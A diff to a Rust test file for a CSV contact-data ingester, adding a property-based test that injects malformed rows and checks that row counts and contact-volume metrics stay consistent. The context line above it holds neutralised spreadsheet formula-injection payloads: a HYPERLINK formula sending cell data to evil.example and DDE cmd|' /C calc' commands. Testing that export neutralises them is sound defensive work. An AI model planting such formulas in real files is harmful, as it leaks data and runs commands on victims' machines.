@@ -623,3 +623,156 @@ fn issue_9_formulas_in_text_fields_are_read_as_text_and_neutralised_on_export() 
         "agent\r\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"\r\n'+cmd|' /C calc'!A0\r\n'@SUM(1+1)*cmd|' /C calc'!A0\r\n'-2+3+cmd|' /C calc'!A0\r\n'\t=1+1\r\n\"'\r=1+1\"\r\n-12.5\r\nAna\r\n"
     );
 }
+
+// ---------------------------------------------------------------------------------------------
+// Row accounting as an invariant
+
+mod props {
+    use proptest::prelude::*;
+
+    use deflect::engine::ingest::text::TextLimits;
+    use deflect::engine::ingest::Ingester;
+
+    use super::*;
+
+    /// What is done to one generated row, and what must become of it.
+    #[derive(Clone, Copy, Debug, PartialEq)]
+    enum Fault {
+        None,
+        BadDate,
+        Year9999,
+        BlankCreated,
+        NegativeTalk,
+        BadNumber,
+        ExtraFields,
+        TooManyFields,
+        TooLong,
+        Nul,
+        Bom,
+        Outbound,
+        ReplyBeforeCreation,
+        Duplicate,
+    }
+
+    impl Fault {
+        fn rejects(self) -> bool {
+            matches!(
+                self,
+                Fault::BadDate | Fault::Year9999 | Fault::BlankCreated | Fault::NegativeTalk | Fault::BadNumber | Fault::ExtraFields | Fault::TooManyFields | Fault::TooLong
+            )
+        }
+    }
+
+    fn faults() -> impl Strategy<Value = Fault> {
+        prop::sample::select(vec![
+            Fault::None,
+            Fault::BadDate,
+            Fault::Year9999,
+            Fault::BlankCreated,
+            Fault::NegativeTalk,
+            Fault::BadNumber,
+            Fault::ExtraFields,
+            Fault::TooManyFields,
+            Fault::TooLong,
+            Fault::Nul,
+            Fault::Bom,
+            Fault::Outbound,
+            Fault::ReplyBeforeCreation,
+            Fault::Duplicate,
+        ])
+    }
+
+    const LIMITS: TextLimits = TextLimits { max_record_bytes: 64 * 1024, max_fields: 12 };
+
+    /// A canonical contacts file: row 0 is clean (duplicates copy its id), every other row
+    /// carries its fault; `unclosed` leaves a quote open in the last row.
+    fn file(faults: &[Fault], unclosed: bool) -> String {
+        let mut out = String::from("id,created,channel,agent,team,talk_s,direction,first_response\n");
+        for (i, f) in faults.iter().enumerate() {
+            let id = if *f == Fault::Duplicate { "T0".to_string() } else { format!("T{i}") };
+            let created = format!("2026-03-02T{:02}:{:02}:00Z", 8 + i / 60, i % 60);
+            let mut fields = vec![id, created.clone(), "email".into(), format!("agent{}", i % 3), "Tier 1".into(), "60".into(), "inbound".into(), String::new()];
+            match f {
+                Fault::None | Fault::Duplicate => {}
+                Fault::BadDate => fields[1] = "31/02/2026 10:00".into(),
+                Fault::Year9999 => fields[1] = "31/12/9999 23:59".into(),
+                Fault::BlankCreated => fields[1] = String::new(),
+                Fault::NegativeTalk => fields[5] = "-5".into(),
+                Fault::BadNumber => fields[5] = "lots".into(),
+                Fault::ExtraFields => fields.push("extra".into()),
+                Fault::TooManyFields => fields.extend((0..5).map(|k| format!("x{k}"))),
+                Fault::TooLong => fields[3] = "y".repeat(70_000),
+                Fault::Nul => fields[3] = format!("agent\0{}", i % 3),
+                Fault::Bom => fields[3] = format!("\u{feff}agent{}\u{feff}", i % 3),
+                Fault::Outbound => fields[6] = "outbound".into(),
+                Fault::ReplyBeforeCreation => fields[7] = "2026-03-01T00:00:00Z".into(),
+            }
+            out.push_str(&fields.join(","));
+            if unclosed && i + 1 == faults.len() {
+                out.push_str(",\"never closed");
+            }
+            out.push('\n');
+        }
+        out
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]
+
+        /// Whatever is injected, every data row is used or rejected (with its reason listed),
+        /// the counts are exactly the injected ones, chunk boundaries change nothing, and no
+        /// metric counts a rejected row: `contact_volume` is the number of distinct demand
+        /// contacts that were used.
+        #[test]
+        fn issue_9_rows_are_used_or_rejected_and_metrics_see_only_used_rows(
+            rest in prop::collection::vec(faults(), 0..40),
+            unclosed in any::<bool>(),
+            chunk in 1usize..700,
+        ) {
+            let mut faults = vec![Fault::None];
+            faults.extend(rest);
+            let text = file(&faults, unclosed);
+            let mut opts = IngestOptions::new(Zone::utc());
+            opts.limits = LIMITS;
+            let mut ing = Ingester::new("faults.csv", opts);
+            for c in text.as_bytes().chunks(chunk) {
+                ing.feed(c);
+            }
+            let ing = ing.finish().expect("reads");
+            prop_assert_eq!(ing.parts.len(), 1);
+            let p = &ing.parts[0];
+            let s = &p.summary;
+            let last_rejected = unclosed && !faults[faults.len() - 1].rejects();
+            let rejected = faults.iter().filter(|f| f.rejects()).count() as u64 + u64::from(last_rejected);
+            let used_faults: Vec<Fault> = faults.iter().take(faults.len() - usize::from(last_rejected)).copied().filter(|f| !f.rejects()).collect();
+            prop_assert_eq!(s.rows, faults.len() as u64);
+            prop_assert_eq!(s.rows, s.used + s.rejected);
+            prop_assert_eq!(s.rejected, rejected);
+            prop_assert_eq!(s.excluded, used_faults.iter().filter(|f| **f == Fault::Outbound).count() as u64);
+            prop_assert_eq!(s.warnings, used_faults.iter().filter(|f| **f == Fault::ReplyBeforeCreation).count() as u64);
+            prop_assert_eq!(p.contacts.len() as u64, s.used);
+            let listed = p.diagnostics.iter().filter(|d| d.severity == Severity::Rejected).count() as u64;
+            prop_assert_eq!(listed, s.rejected);
+            // NULs and BOMs never make a new agent.
+            let mut agents: Vec<&str> = p.contacts.iter().map(|c| p.strings.get(c.agent)).collect();
+            agents.sort_unstable();
+            agents.dedup();
+            prop_assert!(agents.iter().all(|a| ["agent0", "agent1", "agent2"].contains(a)), "{:?}", agents);
+
+            let ds = Dataset::from_parts(ing.parts);
+            let (rows, used, rejected_total) = ds.totals();
+            prop_assert_eq!((rows, used + rejected_total), (faults.len() as u64, faults.len() as u64));
+            let demand = used_faults.iter().filter(|f| !matches!(f, Fault::Outbound | Fault::Duplicate)).count() as i64;
+            let report = Report::build(&ds, &Params::default(), &Filters::default());
+            let volume = report.headline("contact_volume").and_then(|r| r.value).map(|v| format!("{v:?}"));
+            prop_assert_eq!(volume, Some(format!("Int({demand})")));
+            // The per-channel rows add up to the same total.
+            let by_channel: i64 = report
+                .rows("contact_volume")
+                .filter(|r| r.by.as_deref() == Some("channel"))
+                .filter_map(|r| match r.value { Some(deflect::engine::metrics::Num::Int(n)) => Some(n), _ => None })
+                .sum();
+            prop_assert_eq!(by_channel, demand);
+        }
+    }
+}
